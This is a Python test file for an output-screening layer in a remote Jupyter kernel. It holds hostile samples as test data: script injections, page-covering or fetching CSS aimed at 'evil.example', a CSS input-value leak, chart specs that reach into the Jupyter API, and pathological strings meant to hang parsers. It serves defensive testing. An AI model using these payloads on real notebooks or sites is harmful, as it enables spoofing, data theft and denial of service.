        screened, notice = OutputGuard().screen("display_data", {"data": {mime: ALTAIR_SPEC}, "metadata": metadata})
        options = (screened["metadata"].get(mime) or screened["metadata"])["embed_options"]
        assert options == {"actions": True, "theme": "dark"} and screened["data"][mime] == ALTAIR_SPEC
        assert notice and "metadata" in notice


def test_json_types_pass_only_when_their_renderer_runs_and_fetches_nothing():
    from remote_kernel.kernel.trust import screen_bundle

    inert = {"application/json": {"a": 1}, "application/geo+json": {"type": "Point", "coordinates": [0, 0]},
             "application/vnd.plotly.v1+json": {"data": [], "layout": {}},
             "application/vnd.dataresource+json": {"schema": {}, "data": []}}
    kept, lost = screen_bundle({**inert, "application/vdom.v1+json": {"tagName": "iframe", "attributes": {
        "srcdoc": "<script>alert(1)</script>"}}, "application/vnd.unknown.renderer+json": {"code": "x"},
        "text/plain": "x"})
    assert kept == {**inert, "text/plain": "x"}
    assert lost == ["application/vdom.v1+json", "application/vnd.unknown.renderer+json"]


def test_markdown_past_the_rendering_allowance_stays_markdown_with_html_and_links_escaped():
    from remote_kernel.kernel import screen_markdown
    from remote_kernel.kernel.trust import screen_bundle

    padding = "\n\nplain words " * (screen_markdown.RENDER_LIMIT // 10)
    for case in HOSTILE_MARKDOWN:
        kept, lost = screen_bundle({"text/markdown": case + padding})
        assert lost == ["text/markdown"] and set(kept) == {"text/markdown"}, case
        for rendered in commonmark_readings(kept["text/markdown"]):
            assert not active_in_rendering(rendered), (case, rendered[:300])


def inert_html_outputs() -> dict[str, str]:
    """HTML that libraries write and that runs nothing: each must pass byte for byte."""
    import numpy as np
    import pandas as pd
    from IPython.display import Audio, Video

    columns = pd.MultiIndex.from_product([["a", "b"], ["x", "y"]])
    wide = pd.DataFrame(np.arange(8).reshape(2, 4), columns=columns, index=pd.Index(["r0", "r1"], name="row"))
    styled = (wide.style.background_gradient(cmap="Blues").highlight_max(color="yellow")
              .set_table_styles([{"selector": "th", "props": [("color", "darkblue"), ("text-align", "center")]}])
              .set_caption("Rain").set_sticky(axis="index").format("{:.1f}"))
    return {"multiindex frame": wide._repr_html_(), "multiindex to_html": wide.to_html(), "styler": styled.to_html(),
            "plain frame": pd.DataFrame({"a": [1, 2], "b": ["x", "<y>"]})._repr_html_(),
            "video by URL": Video("https://example.org/clip.mp4")._repr_html_(),
            "embedded video": Video(b"\x00\x00\x00\x18ftypmp42", embed=True, mimetype="video/mp4")._repr_html_(),
            "audio": Audio(url="https://example.org/sound.wav")._repr_html_(),
            "video element": '<video src="clip.mp4" controls width="320" poster="poster.png"></video>',
            "comment and doctype": "<!DOCTYPE html><!-- a note --><p title='a > b'>x &amp; y <br/> z</p>",
            "link and labels": '<a href="https://jupyter.org" target="_blank" rel="noopener">docs</a>'
                               '<div role="note" aria-label="a note">n</div>'}


def test_inert_html_passes_byte_for_byte_without_a_note():
    from remote_kernel.kernel.trust import OutputGuard

    for name, html in inert_html_outputs().items():
        content = {"data": {"text/html": html, "text/plain": "x"}, "metadata": {}}
        assert OutputGuard().screen("display_data", content) == (content, None), name


HOSTILE_STYLES = [
    '<style>div { position: fixed; inset: 0; z-index: 99999; background: white }</style><div>click here</div>',
    '<style>.o { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh }</style><div class="o">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647">x</div>',
    '<div style="position: ABSOLUTE; top: -900px">x</div>', '<div style="position:\\66ixed">x</div>',
    '<style>.o { --p: fixed; position: var(--p) }</style><div class="o">x</div>',
    '<style>.jp-Notebook { display: none }</style><div class="jp-Notebook">x</div>',
    '<style>* { color: white } body { display: none }</style><p>x</p>',
    '<style>@import url("https://evil.example/x.css"); .o { color: red }</style><b class="o">x</b>',
    '<style>.o { background: url(/api/contents?x=1) }</style><b class="o">x</b>',
    '<style>.o { background: image-set("https://evil.example/a.png" 1x) }</style><b class="o">x</b>',
    '<style>.o { width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y) }</style>'
    '<b class="o">x</b>',
    '<style>html:has(input[value^="a"]) { --leak: 1 } :root { --jp-layout-color0: red }</style><b>x</b>',
    '<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) } @keyframes k { from { top: 0 } }'
    '</style><b>x</b>',
    '<style>@media screen { p { position: fixed } }</style><p>x</p>',
]
_ESCAPING_CSS = re.compile(r"position\s*:\s*[^;}\"]*(?:fixed|absolute|\\66|var)|jp-notebook\s*\{|\*\s*\{|body\s*\{|@import|url\(|"
                           r"image-set|expression|behavior|binding|:has|--jp-|@font-face|@keyframes|@media[^{]*\{\s*p",
                           re.I)


@pytest.mark.parametrize("html", HOSTILE_STYLES)
def test_css_that_leaves_the_output_or_fetches_is_removed(html):
    from remote_kernel.kernel.trust import screen_bundle

    kept, lost = screen_bundle({"text/html": html})
    assert lost == ["text/html"] and not _ESCAPING_CSS.search(kept["text/html"]), kept
    assert re.search(r">x<|click here", kept["text/html"])  # the content stays, without the style


def test_a_style_scoped_to_the_output_keeps_its_safe_rules_and_loses_the_rest():
    from remote_kernel.kernel.trust import screen_bundle

    html = ('<style>#T_1 td { color: red; position: fixed } .dataframe th { text-align: right } '
            'div { position: fixed } :root { --xr-font-color0: #333 }</style>'
            '<table id="T_1" class="dataframe"><tr><th>h</th><td>1</td></tr></table>')
    kept, lost = screen_bundle({"text/html": html})
    style = kept["text/html"].split("</style>")[0]
    assert lost == ["text/html"] and "color: red" in style and "text-align: right" in style
    assert "--xr-font-color0" in style and "fixed" not in style and "div" not in style


PATHOLOGICAL = {  # the red team's inputs and their variations, at their sizes
    "markdown links": ("text/markdown", "[a\n" * 85000), "nested brackets": ("text/markdown", "[" * 200000),
    "open links": ("text/markdown", "[a](" * 100000), "definitions": ("text/markdown", "> [a]: <" * 100000),
    "markdown tags": ("text/markdown", "<a" * 100000), "markdown entities": ("text/markdown", "&#1" * 100000),
    "markdown links with a tag": ("text/markdown", "<b>x</b>" + "[a\n" * 85000),
    "rendered brackets": ("text/markdown", "<b>x</b>" + "![[" * 5000),
    "unclosed tags": ("text/html", "<a" * 100000), "unclosed attributes": ("text/html", "<a b='" * 100000),
    "CDATA": ("text/html", "<![" * 100000), "CDATA sections": ("text/html", "<![CDATA[" * 100000),
    "comments": ("text/html", "<!--" * 100000), "comment ends": ("text/html", "<!-- --!" * 100000),
    "processing instructions": ("text/html", "<?" * 100000), "end tags": ("text/html", "</a" * 100000),
    "nested tags": ("text/html", "<b><i>" * 100000), "styles": ("text/html", "<style>" * 100000),
    "style rules": ("text/html", "<style>" + ".a{" * 100000 + "</style>"),
    "svg": ("image/svg+xml", "<svg>" + "<g>" * 100000),
}


def test_the_pathological_inputs_are_screened_in_time_linear_in_their_size():
    """Each input at the size that took minutes (or raised) before, screened in a child process with a generous
    limit: quadratic work on any of them (about 10^10 steps) would not finish in it."""
    script = ("import json, sys\nfrom remote_kernel.kernel.trust import OutputGuard\n"
              "cases = json.load(sys.stdin)\n"
              "for name, (mime, text) in cases.items():\n"
              "    guard = OutputGuard()\n"
              "    screened, notice = guard.screen('display_data', {'data': {mime: text, 'text/plain': 'p'},"
              " 'metadata': {}})\n"
              "    assert screened['data']['text/plain'] == 'p', name\n"
              "print('screened', len(cases))\n")
    done = subprocess.run([os.sys.executable, "-c", script], input=json.dumps(PATHOLOGICAL), capture_output=True,
                          text=True, timeout=300, env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[1])})
    assert done.returncode == 0 and f"screened {len(PATHOLOGICAL)}" in done.stdout, done.stderr[-2000:]


def test_past_the_cells_budget_outputs_keep_their_plain_text_with_one_note():
    from remote_kernel.kernel.trust import CELL_SCREEN_BUDGET, OutputGuard

    guard = OutputGuard()
    chunk = "<p>" + "x" * (CELL_SCREEN_BUDGET // 3) + "</p>"
    shown = [guard.screen("display_data", {"data": {"text/html": chunk, "text/plain": str(i)}, "metadata": {}})
             for i in range(5)]
    assert [set(content["data"]) for content, _ in shown] == [{"text/html", "text/plain"}] * 2 + [{"text/plain"}] * 3
    assert [bool(notice) for _, notice in shown] == [False, False, True, False, False]
    assert "budget" in shown[2][1] and shown[4][0]["data"] == {"text/plain": "4"}
    guard.new_cell()
    assert "text/html" in guard.screen("display_data", {"data": {"text/html": chunk}, "metadata": {}})[0]["data"]


def test_an_output_the_screen_cannot_read_keeps_its_plain_text():
    from remote_kernel.kernel.trust import OutputGuard

    deep: list = []
    for _ in range(100000):
        deep = [deep]
    screened, notice = OutputGuard().screen("display_data", {"data": {
        "application/vnd.vegalite.v5+json": {"data": {"values": deep}}, "text/plain": "chart"}, "metadata": {}})
    assert screened["data"] == {"text/plain": "chart"} and "could not read" in notice


# --- the same, through real kernels -----------------------------------------------------------

PATHOLOGICAL_CELL = """\
from IPython.display import display, HTML, Markdown
display(Markdown("[a\\n" * 85000))
display(HTML("<a" * 100000))
display(HTML("<![" * 60000))
display(HTML("<![CDATA[" * 30000 + "<!--" * 60000 + "<?" * 60000))
display(Markdown("> [a]: <" * 40000 + "[" * 100000))
display(Markdown("<b>x</b>" + "[a\\n" * 85000))
print('after')
"""


def test_a_cell_of_pathological_outputs_prints_what_follows_and_kernel_info_answers(remote):
    msg_id = remote.execute(PATHOLOGICAL_CELL)
    remote.control_channel.send(remote.session.msg("kernel_info_request"))  # while the cell runs
    control = remote.control_channel.get_msg(timeout=60)
    outputs = collect(remote, msg_id, timeout=120)
    reply = remote.get_shell_msg(timeout=60)
    while reply["parent_header"].get("msg_id") != msg_id:
        reply = remote.get_shell_msg(timeout=60)
    assert control["msg_type"] == "kernel_info_reply" and control["content"]["status"] == "ok"
    assert reply["content"]["status"] == "ok", reply["content"]
    assert text_of(outputs, "stdout") == "after\n" and not errors_of(outputs)
    assert len(bundles(outputs)) == 6 and all("text/plain" in b for b in bundles(outputs))
    remote.kernel_info()
    assert remote.get_shell_msg(timeout=60)["content"]["status"] == "ok"


INERT_CELL = """\
import numpy as np, pandas as pd
from IPython.display import display, HTML, Video
frame = pd.DataFrame(np.arange(8).reshape(2, 4), columns=pd.MultiIndex.from_product([["a", "b"], ["x", "y"]]))
display(frame)
display(HTML(frame.to_html()))
display(frame.style.highlight_max(color="yellow").set_uuid("fixed").set_caption("Styled"))
display(Video("https://example.org/clip.mp4"))
display(HTML('<video src="clip.mp4" controls width="320"></video><!-- a note --><p style="color: red">x</p>'))
frame
"""


def test_inert_html_arrives_byte_for_byte_as_on_ipykernel_without_a_note(remote):
    with local_kernel() as (_, local):
        local_reply, local_outputs = run(local, INERT_CELL)
    reply, outputs = run(remote, INERT_CELL)
    assert reply["status"] == local_reply["status"] == "ok", outputs

    def html(outs: list[dict]) -> list[tuple[str, str]]:
        return [(m["msg_type"], m["content"]["data"].get("text/html", "")) for m in outs if "data" in m["content"]]

    assert html(outputs) == html(local_outputs) and len(html(outputs)) == 6
    assert 'halign="left"' in html(outputs)[0][1] and "<style scoped>" in html(outputs)[0][1]
    assert not notices(outputs) and text_of(outputs, "stderr") == ""


ALTAIR_CELL = f"""\
from IPython.display import display
spec = {ALTAIR_SPEC!r}
display({{"application/vnd.vegalite.v5+json": spec, "text/plain": "alt.Chart(...)"}}, raw=True)
"""


def test_an_altair_chart_arrives_as_on_ipykernel_and_a_hostile_spec_loses_its_sinks(remote):
    with local_kernel() as (_, local):
        _, local_outputs = run(local, ALTAIR_CELL)
    _, outputs = run(remote, ALTAIR_CELL)
    assert bundles(outputs) == bundles(local_outputs) and not notices(outputs)
    hostile = ("from IPython.display import display\n"
               f"for spec in {HOSTILE_VEGA!r}:\n"
               "    display({'application/vnd.vega.v5+json': spec, 'text/plain': 'chart'}, raw=True,\n"
               "            metadata={'application/vnd.vega.v5+json': {'embed_options': {\n"
               "                'sourceFooter': '<script>alert(1)</script>', 'actions': True}}})\n")
    _, outputs = run(remote, hostile)
    shown = [m["content"] for m in outputs if "data" in m["content"]]
    assert len(shown) == len(HOSTILE_VEGA)
    for content in shown:
        assert not vega_sinks(content["data"].get("application/vnd.vega.v5+json", {}))
        assert content["metadata"]["application/vnd.vega.v5+json"] == {"embed_options": {"actions": True}}


def test_plotly_figures_lose_only_what_would_be_fetched_from_the_jupyter_origin():
    import numpy as np
    import plotly.graph_objects as go

    from remote_kernel.kernel.trust import screen_bundle

    mime = "application/vnd.plotly.v1+json"
    inline = {"type": "FeatureCollection", "features": []}
    usual = [go.Figure(go.Bar(y=[1, 3, 2])), go.Figure(go.Sankey(link={"source": [0, 1], "target": [1, 2],
                                                                         "value": [1, 2]})),
             go.Figure(go.Image(source="data:image/png;base64,iVBORw0KGgo=")),
             go.Figure(go.Heatmap(z=np.arange(4).reshape(2, 2))),
             go.Figure(go.Choroplethmap(geojson="https://example.org/regions.geojson", locations=["a"], z=[1]),
                       layout={"map": {"style": "open-street-map"}}),
             go.Figure(go.Choroplethmap(geojson=inline, locations=["a"], z=[1]))]
    for figure in usual:
        spec = json.loads(figure.to_json())
        assert screen_bundle({mime: spec}) == ({mime: spec}, []), spec
    hostile = go.Figure(go.Choroplethmap(geojson="/api/contents/secret.geojson", locations=["a"], z=[1]),
                        layout={"map": {"style": "style.json", "layers": [
                            {"source": "../files/data.geojson"}, {"sourcetype": "raster", "source": ["/tiles/{z}"]}]}})
    spec = {**json.loads(hostile.to_json()), "config": {"topojsonURL": "/api/contents/"}}
    spec["layout"]["mapbox"] = {"style": {"version": 8, "sources": {"x": {"url": "/api/x"}}}}  # plotly < 6
    kept, lost = screen_bundle({mime: spec})
    text = json.dumps(kept[mime])
    assert lost == [mime] and not re.search(r"/api/|\.\./|style\.json|/tiles/|topojsonURL", text), text


def test_charts_spend_the_cells_budget_too():
    from remote_kernel.kernel.trust import Budget, OutputGuard

    guard = OutputGuard()
    guard.budget = Budget(5000)
    spec = {"data": {"values": [{"x": i, "label": "point"} for i in range(200)]}, "mark": "point"}
    shown = [guard.screen("display_data", {"data": {mime: spec, "text/plain": "chart"}, "metadata": {}})
             for mime in ("application/vnd.vegalite.v5+json", "application/vnd.plotly.v1+json")
             for _ in range(3)]
    kept = [sorted(content["data"]) for content, _ in shown]
    assert kept[0] == ["application/vnd.vegalite.v5+json", "text/plain"] and kept[-1] == ["text/plain"]
    assert sum(1 for _, notice in shown if notice) == 1


def test_markdown_is_rendered_here_only_up_to_the_cells_allowance():
    from remote_kernel.kernel import screen_markdown
    from remote_kernel.kernel.trust import OutputGuard

    guard = OutputGuard()
    text = "<b>bold</b> " + "word " * (screen_markdown.RENDER_LIMIT // 6)
    kinds = [sorted(guard.screen("display_data", {"data": {"text/markdown": text}, "metadata": {}})[0]["data"])
             for _ in range(8)]
    rendered = screen_markdown.CELL_RENDER_LIMIT // len(text)
    assert kinds == [["text/html"]] * rendered + [["text/markdown"]] * (8 - rendered)
